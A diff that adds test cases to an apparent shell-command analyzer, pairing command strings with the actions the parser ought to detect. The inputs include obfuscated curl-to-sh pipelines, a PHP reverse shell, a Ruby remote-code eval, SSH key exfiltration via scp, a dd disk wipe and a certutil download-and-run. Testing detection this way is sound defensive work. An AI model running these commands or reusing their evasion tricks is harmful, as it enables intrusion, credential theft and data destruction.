@@ -133,8 +133,40 @@ def powershell(script: str) -> str:
         ("git clone http://h/r", ["git.clone(http://h/r)"]),
         ("pip3 install -U x", ["pip.install(x, options=-U)"]),
         ("# curl http://h\nid # who", ["id()"]),
+        # Names that are put together, and words that are taken apart.
+        ("a=cu;b=rl;$a$b http://h | sh", ["curl(http://h)", "sh(stdin=curl())"]),
+        ("c='curl -s'; $c http://h", ["curl(http://h)"]),
+        ("a=id; a=who; $a", ["id()", "who()"]),
+        ("a=$(id); $a -x", ["id()", "eval(id() -x)"]),
+        ("{curl,-s,http://h}|{sh,-}", ["curl(http://h)", "sh(stdin=curl())"]),
+        ("curl${IFS}http://h$IFS$9", ["curl(http://h)"]),
+        ("cp a.{json,bak}; echo '{a,b}' {}", ["cp(a.json, target=a.bak)"]),
+        ("busybox wget -O- http://h", ["wget(http://h)"]),
+        # One-liners of other languages.
+        (
+            "php -r '$s=fsockopen(\"10.1.2.3\",99);exec(\"sh <&3\");'",
+            ["connect(10.1.2.3, 99)", "dup(connect())", "sh(stdin=connect())", "sh(command=sh <&3)",
+             'interpreter(code=$s=fsockopen("10.1.2.3",99);exec("sh <&3");)'],
+        ),
+        (
+            "ruby -ropen-uri -e 'eval(URI.open(\"http://h/x\").read)'",
+            ["fetch(http://h/x)", "interpreter(code=fetch())",
+             'interpreter(code=eval(URI.open("http://h/x").read))'],
+        ),
+        ("perl -pe 's/a/b/' f", ["interpreter(f, code=s/a/b/)"]),
+        # Files that leave, disks that are overwritten, files that are databases.
+        ("scp ~/.ssh/k u@h:", ["read(~/.ssh/k)", "scp(~/.ssh/k, u@h:, data=read())"]),
+        ("rsync -a h::data/ here/", ["rsync(h::data/, here/, options=-a)"]),
+        ("dd if=/dev/zero of=/dev/sda bs=1M", ["read(/dev/zero)", "wipe(/dev/sda)"]),
+        ("dd if=a of=b", ["read(a)", "write(b, data=read())"]),
+        ("sqlite3 a.db 'select 1'", ["sqlite3(a.db, select 1)", "read(a.db)"]),
+        (
+            "certutil -urlcache -f http://h/a.exe a.exe && a.exe",
+            ["certutil(http://h/a.exe, a.exe, options=-urlcache -f)", "write(a.exe, data=certutil())",
+             "run(a.exe)"],
+        ),
         ("id\\\n -u", ["id(options=-u)"]),
-        ("awk 'BEGIN{system(\"id\")}'", ['interpreter(code=BEGIN{system("id")})']),
+        ("awk 'BEGIN{system(\"id\")}'", ["sh(command=id)", 'interpreter(code=BEGIN{system("id")})']),
         ("awk '{print $1}' f", ["awk({print $1}, f)"]),
         # Windows.
         ("cmd.exe /c C:\\Windows\\System32\\calc.exe", ["cmd(command=C:/Windows/System32/calc.exe)"]),
